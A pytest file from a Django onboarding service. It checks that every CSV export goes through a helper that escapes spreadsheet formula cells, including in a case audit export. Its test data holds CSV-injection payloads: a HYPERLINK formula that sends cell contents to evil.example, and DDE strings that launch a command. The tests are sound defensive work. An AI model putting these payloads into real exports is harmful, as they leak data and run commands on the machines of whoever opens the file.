"""Finding 7 (CSV): every CSV writer goes through onboarding.csvsafe, and a cell a spreadsheet
would run as a formula (= + - @, tab, CR) is written with a leading apostrophe."""
from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from django.conf import settings
from rest_framework.test import APIClient

from onboarding import services
from onboarding.api.auth import api_token_create
from onboarding.csvsafe import safe_cell
from tests.factories import FirmFactory, PersonFactory, UserFactory

PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "＝1+1"]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_formula_cells_are_neutralised(payload):
    assert safe_cell(payload) == "'" + payload


@pytest.mark.parametrize("value", ["-12.50", "+3", "1e-9", "Jane Doe", "", "2024-01-31", 7, -3.5, None])
def test_ordinary_values_are_unchanged(value):
    assert safe_cell(value) == value


def test_every_csv_writer_in_the_code_uses_the_one_helper():
    root = Path(settings.BASE_DIR)
    offenders = []
    for path in root.rglob("*.py"):
        rel = path.relative_to(root).as_posix()
        if rel.startswith((".venv/", "tests/", "var/")) or rel == "onboarding/csvsafe.py":
            continue
        if "simulator/" in rel:  # builds custodian test files byte for byte, never an export
            continue
        if re.search(r"\bcsv\.(writer|DictWriter)\(", path.read_text(encoding="utf-8")):
            offenders.append(rel)
    assert offenders == []


@pytest.mark.django_db
def test_the_case_audit_export_escapes_a_hostile_reason():
    firm = FirmFactory()
    advisor = UserFactory(firm=firm, role="advisor")
    services.rulepacks_load()
    case = services.case_create(firm=firm, party=PersonFactory(firm=firm), actor=advisor)
    services.case_withdraw(case=case, actor=advisor, reason=PAYLOADS[0])
    _, token = api_token_create(user=advisor, name="t")
    client = APIClient()
    client.credentials(HTTP_AUTHORIZATION=f"Token {token}")
    response = client.get(f"/api/v1/cases/{case.pk}/audit/", {"export": "csv"})
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    reasons = [row["reason"] for row in rows if row["event_type"] == "case.withdrawn"]
    assert reasons == ["'" + PAYLOADS[0]]
    assert not any(cell.startswith(("=", "+", "@")) for row in rows for cell in row.values() if cell)
